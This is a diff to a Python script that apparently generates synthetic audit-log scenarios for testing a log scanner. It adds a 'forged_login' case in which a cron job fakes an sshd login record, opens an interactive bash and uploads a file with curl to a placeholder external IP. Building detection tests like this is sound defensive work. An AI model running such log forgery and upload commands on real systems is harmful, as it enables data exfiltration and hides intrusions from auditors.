@@ -202,6 +202,20 @@ def other_clothes():
     return "".join(line + "\n" for line in lines)
 
 
+def forged_login():
+    """cron's job writes sshd's record for its own session and sends from a shell with a terminal."""
+    story = Story()
+    shell = story.cron_job("/opt/job")
+    job = shell.fork(702).exec("/opt/job", "/opt/job")
+    story.user_message("USER_LOGIN", 702, 0, 3, "login", "/usr/sbin/sshd", "root", "/dev/pts/3",
+                       "192.0.2.9")
+    bash = job.fork(703, tty="pts3").exec("/usr/bin/bash", "bash", "-i")
+    bash.fork(704).exec("/usr/bin/curl", "curl", "-T", "f", "https://203.0.113.9/").upload(
+        5, "203.0.113.9", 443, 700, 200_000_000)
+    story.chatter()
+    return story.text()
+
+
 def one_job():
     story = scp_job()
     story.chatter()
@@ -215,6 +229,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-begins-late": begins_late,
         "scan-nightly": two_nights,
         "scan-other-clothes": other_clothes,
+        "scan-forged-login": forged_login,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
